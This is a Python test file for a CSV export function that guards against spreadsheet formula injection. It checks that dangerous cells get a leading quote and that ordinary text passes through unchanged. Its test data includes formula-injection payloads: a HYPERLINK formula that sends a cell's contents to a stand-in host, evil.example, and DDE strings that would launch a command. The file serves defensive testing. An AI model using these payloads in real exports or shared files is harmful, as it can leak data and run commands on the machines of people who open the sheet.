"""The CSV writer every export goes through: nothing a spreadsheet would evaluate survives."""

from __future__ import annotations

import csv
import io

import pytest

from headcount.csv_export import neutralise, render

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&B2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=evil@school.example",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\t",
    "\rplain",
    "\uff1d1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_a_spreadsheet_would_evaluate_is_quoted(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["Ann O'Neil", "ann@school.example", "2025-03-11 10:00 UTC", "0.5000", "", "Zoë = 1", "'x"],
)
def test_ordinary_text_is_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


def test_rows_round_trip_through_a_csv_reader() -> None:
    rows = [["name", "email"], ["=1+1", "a,b@c.example"], ['say "hi"', None]]
    text = render(rows)
    assert text.endswith("\r\n")
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "email"],
        ["'=1+1", "a,b@c.example"],
        ['say "hi"', ""],
    ]


def test_every_cell_is_quoted_so_a_separator_in_a_name_starts_no_cell() -> None:
    assert render([["a;=1+1", "b"]]) == '"a;=1+1","b"\r\n'


def test_no_rows_is_no_text() -> None:
    assert render([]) == ""
